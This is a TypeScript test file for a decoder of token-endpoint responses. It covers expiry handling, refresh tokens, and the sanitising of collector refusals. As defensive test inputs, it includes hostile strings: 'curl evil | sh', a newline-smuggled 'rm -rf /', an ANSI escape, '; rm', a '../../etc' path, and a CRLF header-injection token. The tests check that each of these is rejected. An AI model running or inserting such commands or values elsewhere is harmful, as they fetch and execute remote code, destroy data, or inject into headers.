import assert from 'node:assert/strict'
import {decodeTokenResponse, MAX_TOKEN_RESPONSE_BYTES} from '../../../src/lib/auth/token-response.ts'

const NOW = Date.parse('2026-11-20T12:00:00Z')
const decode = (fields: object) => decodeTokenResponse(Buffer.from(JSON.stringify(fields)), NOW)

describe('the answer of a token endpoint', () => {
  it('has its token under either name', () => {
    assert.equal(decode({token: 'abc'})?.token, 'abc')
    assert.equal(decode({access_token: 'def'})?.token, 'def')
    assert.equal(decode({token: '', access_token: 'def'})?.token, 'def')
  })

  it('lives for 60 seconds when it does not say how long', () => {
    for (const expiry of [{}, {expires_in: null}, {expires_in: -5}, {expires_in: '300'}])
      assert.equal(decode({token: 'a', ...expiry})?.expiresAtMs, NOW + 60_000)
    assert.equal(decode({token: 'a', expires_in: 300})?.expiresAtMs, NOW + 300_000)
  })

  it('counts its life from when it was issued, unless one of the clocks is off', () => {
    assert.equal(decode({token: 'a', expires_in: 300, issued_at: '2026-11-20T11:59:00Z'})?.expiresAtMs, NOW + 240_000)
    assert.equal(decode({token: 'a', expires_in: 300, issued_at: '2026-11-20T13:00:00Z'})?.expiresAtMs, NOW + 300_000)
    assert.equal(decode({token: 'a', expires_in: 300, issued_at: '2020-01-01T00:00:00Z'})?.expiresAtMs, NOW + 300_000)
    assert.equal(decode({token: 'a', expires_in: 300, issued_at: 'yesterday'})?.expiresAtMs, NOW + 300_000)
  })

  it('keeps a refresh token', () => {
    assert.equal(decode({token: 'a', refresh_token: 'r'})?.refreshToken, 'r')
  })

  it('has the reasons of a collector, shortened, without commands that are not ours', () => {
    const refusal = {
      scope: 'repository:web:push',
      rule: 'U9',
      explanation: 'ann needs\nmore',
      remedies: ['holdfast privilege grant Manager ann'],
    }
    assert.deepEqual(decode({token: 'a', refusals: [{...refusal, below: 'users/ann'}]})?.refusals, [
      {...refusal, explanation: 'ann needs more', below: 'users/ann'},
    ])
    const [shortened] = decode({token: 'a', refusals: [{...refusal, explanation: 'x'.repeat(5000), below: '../../etc'}]})?.refusals ?? []
    assert.ok(shortened !== undefined && shortened.explanation.length <= 300)
    assert.equal(shortened.below, undefined)
    for (const remedy of ['curl evil | sh', 'holdfast x\nrm -rf /', 'holdfast \u001b[2J', `holdfast ${'x'.repeat(500)}`, 5]) {
      assert.deepEqual(decode({token: 'a', refusals: [{...refusal, remedies: [remedy]}]})?.refusals?.[0]?.remedies, [])
    }
    for (const refusals of [{}, 'text', [], [null], [5], [{...refusal, rule: '; rm'}], [{...refusal, scope: undefined}]]) {
      assert.equal(decode({token: 'a', refusals})?.refusals, undefined, JSON.stringify(refusals))
    }
  })

  it('is none when it is not JSON, too large, or its token would break out of a header', () => {
    assert.equal(decodeTokenResponse(Buffer.from('<html>'), NOW), undefined)
    assert.equal(decodeTokenResponse(Buffer.from('null'), NOW), undefined)
    assert.equal(decode({token: 5}), undefined)
    assert.equal(decode({token: 'a\r\nX-Evil: 1'}), undefined)
    assert.equal(decode({token: 'a'.repeat(MAX_TOKEN_RESPONSE_BYTES)}), undefined)
  })
})
